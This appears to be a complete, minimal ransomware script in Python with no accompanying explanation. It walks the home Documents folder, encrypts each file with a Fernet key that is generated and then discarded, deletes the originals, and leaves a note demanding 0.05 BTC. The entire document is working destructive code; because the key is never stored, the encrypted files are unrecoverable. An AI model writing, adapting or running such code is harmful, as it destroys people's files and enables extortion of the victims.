import os
from pathlib import Path

from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
root = Path.home() / "Documents"
for dirpath, _dirs, files in os.walk(root):
    for name in files:
        path = Path(dirpath) / name
        data = path.read_bytes()
        path.with_suffix(path.suffix + ".locked").write_bytes(box.encrypt(data))
        os.remove(path)
(root / "READ_ME_TO_RESTORE.txt").write_text("Send 0.05 BTC to restore your files.\n")
